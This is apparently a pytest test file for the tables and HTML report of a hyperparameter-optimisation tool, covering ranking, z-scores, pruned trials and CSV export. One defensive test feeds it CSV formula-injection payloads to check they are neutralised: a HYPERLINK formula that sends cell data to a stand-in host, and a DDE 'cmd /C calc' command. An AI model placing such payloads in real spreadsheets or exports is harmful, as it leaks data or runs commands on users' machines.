"""Reports over real (tiny) studies: Z-scores, CSV, HTML in a real browser, the best config out."""

import numpy as np
import pandas as pd
import pytest

from hpo.results.tables import add_scores, studies_frame, trials_frame, zscore


def test_zscore_population_std_and_constants():
    z = zscore(pd.Series([1.0, 2.0, 3.0, np.nan]))
    assert z.iloc[:3].mean() == pytest.approx(0) and z.iloc[:3].std(ddof=0) == pytest.approx(1)
    assert np.isnan(z.iloc[3])
    assert zscore(pd.Series([5.0, 5.0])).tolist() == [0.0, 0.0]  # constant: 0, not NaN
    assert zscore(pd.Series([998.8] * 7)).tolist() == [0.0] * 7  # whose float mean is not exactly 998.8


def test_rank_follows_the_objective_when_the_metrics_agree():
    df = pd.DataFrame(
        {
            "direction": "minimize",
            "objective": [0.9, 0.2, 0.5, 0.7],
            "eval_accuracy": [0.6, 0.95, 0.8, 0.7],
            "eval_f1_macro": [0.55, 0.9, 0.8, 0.65],
        }
    )
    scored = add_scores(
        df,
        {"objective": (True, True), "eval_accuracy": (True, True), "eval_f1_macro": (True, True)},
        oriented=("objective",),
    )
    assert scored.sort_values("rank")["objective"].tolist() == [0.2, 0.5, 0.7, 0.9]
    assert (scored["z_objective"] > 0).tolist() == [False, True, True, False]  # oriented: a low loss scores high


def _study(name, task, metric, direction, values, pruned=()):
    """An in-memory study of made-up trials: ``values`` complete, ``pruned`` stopped at that intermediate value."""
    import optuna
    from optuna.trial import TrialState, create_trial

    study = optuna.create_study(study_name=name, direction=direction)
    study.set_user_attr("config", {"task": task, "objective": {"metric": metric, "direction": direction}})
    for v in values:
        study.add_trial(create_trial(value=v, intermediate_values={10: v}, user_attrs={"eval_accuracy": 0.5}))
    for v in pruned:
        study.add_trial(create_trial(state=TrialState.PRUNED, value=v, intermediate_values={2: v}))  # as optuna's tell
    return study


def test_a_low_f1_is_never_ranked_above_the_best_loss():
    # A loss (minimized) and a macro F1 of 0.20 (maximized) in one report.
    loss = _study("loss", "sequence-classification", "eval_loss", "minimize", [0.3, 0.5, 0.9])
    f1 = _study("f1", "sequence-classification", "eval_f1_macro", "maximize", [0.20, 0.18])
    trials = trials_frame([loss, f1])
    by_metric = {m: rows.sort_values("objective")["rank"].tolist() for m, rows in trials.groupby("metric")}
    assert by_metric == {"eval_loss": [1, 2, 3], "eval_f1_macro": [2, 1]}  # ranked within a metric, never across
    for _, rows in trials.groupby("metric"):  # each z compares one metric: mean 0, std 1 there
        assert rows["z_objective"].mean() == pytest.approx(0) and rows["z_objective"].std(ddof=0) == pytest.approx(1)
    studies = studies_frame([loss, f1], trials).set_index("study")
    assert studies["rank"].tolist() == [1, 1] and studies["z_best"].tolist() == [0, 0]  # alone in their groups
    assert studies.loc["loss", ["task", "metric", "direction"]].tolist() == [
        "sequence-classification",
        "eval_loss",
        "minimize",
    ]


def test_rank_one_is_the_trial_hpo_best_exports():
    # The hostile reviewer's case: trial 1 has the better accuracy and F1, trial 0 the better loss. The
    # objective decides what is best; the composite score stays beside it as a second opinion.
    import optuna
    from optuna.trial import create_trial

    study = optuna.create_study(direction="minimize")
    study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
    for loss, acc, f1 in ((0.50, 0.5, 0.3), (0.51, 0.9, 0.9), (0.90, 0.4, 0.4)):
        study.add_trial(create_trial(value=loss, user_attrs={"eval_accuracy": acc, "eval_f1_macro": f1}))
    trials = trials_frame([study]).set_index("trial")
    assert trials["rank"].tolist() == [1, 2, 3] and trials["rank"].idxmin() == study.best_trial.number
    assert trials["score"].idxmax() == 1  # the score alone would have named trial 1


def test_ties_and_diverged_values_rank_as_hpo_best_picks():
    # Three trials tie at accuracy 0.5: the earliest is the best everywhere (Optuna's own pick among ties
    # is whatever the database lists first). A diverged perplexity of 1e304 overflowed the variance and
    # gave every trial rank 1; an infinite one left every trial unranked.
    import optuna
    from optuna.trial import create_trial

    from hpo.study.storage import best_trial

    tied = optuna.create_study(direction="maximize")
    tied.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_accuracy"}})
    for acc, f1 in ((0.4, 0.9), (0.5, 0.1), (0.5, 0.9), (0.5, 0.5)):
        tied.add_trial(create_trial(value=acc, user_attrs={"eval_f1_macro": f1}))
    ranks = trials_frame([tied]).set_index("trial")["rank"]
    assert ranks.idxmin() == best_trial(tied).number == 1 and ranks.tolist() == [4, 1, 2, 3]

    for worst in (1e304, float("inf")):
        lm = optuna.create_study(direction="minimize")
        lm.set_user_attr("config", {"task": "causal-lm", "objective": {"metric": "eval_perplexity"}})
        for v in (12.0, worst, 9.0):
            lm.add_trial(create_trial(value=v))
        trials = trials_frame([lm]).set_index("trial")
        assert trials["rank"].tolist() == [2, 3, 1], worst
        assert trials.loc[[0, 2], "z_objective"].notna().all()  # finite, not NaN from an overflowed variance


def test_the_same_metric_of_two_tasks_is_not_compared():
    # A causal-lm's eval_loss (next-token cross-entropy, ~3) and a classifier's (~0.6) share a name, not a scale.
    lm = _study("lm", "causal-lm", "eval_loss", "minimize", [2.9, 3.4])
    clf = _study("clf", "sequence-classification", "eval_loss", "minimize", [0.7, 0.6])
    trials = trials_frame([lm, clf])
    assert trials.groupby("study")["rank"].apply(sorted).to_dict() == {"clf": [1, 2], "lm": [1, 2]}
    from hpo.results.tables import by_group

    assert [label for label, _ in by_group(trials)] == [
        "task=causal-lm, metric=eval_loss, direction=minimize",
        "task=sequence-classification, metric=eval_loss, direction=minimize",
    ]


def test_pruned_trials_are_listed_unranked_unless_asked():
    # A pruned trial's value is its last intermediate one: an early 0.1 is not a final loss better than 0.3.
    study = _study("s", "sequence-classification", "eval_loss", "minimize", [0.3, 0.5], pruned=[0.1])
    trials = trials_frame([study]).set_index("trial")
    assert trials["rank"].tolist()[:2] == [1, 2] and pd.isna(trials.loc[2, "rank"])
    assert trials["final"].tolist() == [True, True, False] and trials.loc[2, "state"] == "pruned"
    assert trials.loc[2, ["score", "z_objective"]].isna().all()
    assert trials.loc[[0, 1], "z_objective"].tolist() == pytest.approx([1, -1])  # over the complete trials alone
    summary = studies_frame([study], trials.reset_index()).iloc[0]
    assert (summary["count"], summary["min"], summary["max"]) == (2, 0.3, 0.5)  # complete trials only
    assert (summary["mean"], summary["std"]) == pytest.approx((0.4, 0.1414213))  # pandas' std: ddof=1

    included = trials_frame([study], include_pruned=True).set_index("trial")
    assert included["rank"].tolist() == [2, 3, 1] and not included.loc[2, "final"]  # ranked, and still marked


def test_the_report_names_a_best_parameter_at_the_edge_of_its_range():
    import optuna
    from optuna.distributions import FloatDistribution
    from optuna.trial import create_trial

    study = optuna.create_study(study_name="edge")
    study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
    lr = FloatDistribution(1e-5, 1e-3, log=True)
    for value, rate in [(0.3, 9.8e-4), (0.5, 1e-4)]:
        study.add_trial(create_trial(value=value, params={"learning_rate": rate}, distributions={"learning_rate": lr}))
    (row,) = studies_frame([study]).to_dict("records")
    assert row["at_edge"].startswith("search_space.learning_rate: the best value 0.00098 is at the high end")


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path):
    # Study names and parameter values went into trials.csv raw: `=HYPERLINK(...)` opened in a spreadsheet ran
    # as a formula. Each text cell that starts like one gets a leading ' (OWASP); numbers stay numbers.
    import csv
    import re

    import optuna
    from optuna.distributions import CategoricalDistribution, FloatDistribution
    from optuna.trial import create_trial

    from hpo.results.tables import write_csv

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1"]
    choice = CategoricalDistribution(hostile + ["-0.5", "plain"])
    rate = FloatDistribution(-5.0, 1.0)
    studies = []
    for name in (*hostile[:4], " =1+1"):
        study = optuna.create_study(study_name=name)
        study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
        for i, value in enumerate([*hostile, "-0.5", "plain"]):
            params = {"scheduler": value, "shift": -0.25 * i}
            study.add_trial(
                create_trial(value=-1.5 + i, params=params, distributions={"scheduler": choice, "shift": rate})
            )
        studies.append(study)
    trials, summary = write_csv(trials_frame(studies), studies_frame(studies), tmp_path / "t.csv")
    for path in (trials, summary):
        with path.open(newline="") as f:
            rows = list(csv.reader(f))
        cells = [c for row in rows for c in row]
        formulas = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
        assert all(re.fullmatch(r"-\d+(\.\d+)?", c) for c in formulas), formulas  # negative numbers only
        assert {f"'{name}" for name in (*hostile[:4], " =1+1")} <= set(cells)  # the study column
    rows = pd.read_csv(trials)
    assert rows["objective"].min() == -1.5 and rows["params_shift"].min() == -1.75  # numbers, negative and all
    assert set(pd.read_csv(trials, dtype=str)["params_scheduler"]) == {f"'{v}" for v in hostile} | {"-0.5", "plain"}


def test_the_html_report_of_a_two_objective_study_inlines_plotly_once(tmp_path):
    # The history's title named its objective with the variable that said whether plotly.js was written yet: every
    # two-objective study inlined plotly.js (~4.6 MB) once more.
    import optuna
    from optuna.trial import create_trial

    from hpo.results.html import write_html

    study = optuna.create_study(study_name="two", directions=["minimize", "maximize"])
    study.set_user_attr(
        "config",
        {
            "task": "sequence-classification",
            "objectives": [
                {"metric": "eval_loss", "direction": "minimize"},
                {"metric": "eval_accuracy", "direction": "maximize"},
            ],
        },
    )
    dist = {"learning_rate": optuna.distributions.FloatDistribution(1e-5, 1e-3, log=True)}
    for i, (loss, acc) in enumerate([(0.9, 0.6), (0.5, 0.7), (0.7, 0.9), (0.4, 0.5)]):
        params = {"learning_rate": 1e-5 * 3**i}
        study.add_trial(create_trial(values=[loss, acc], params=params, distributions=dist))
    trials = trials_frame([study])
    page = write_html([study], trials, studies_frame([study], trials), tmp_path / "r.html").read_text()
    assert page.count("plotly.js v") == 1
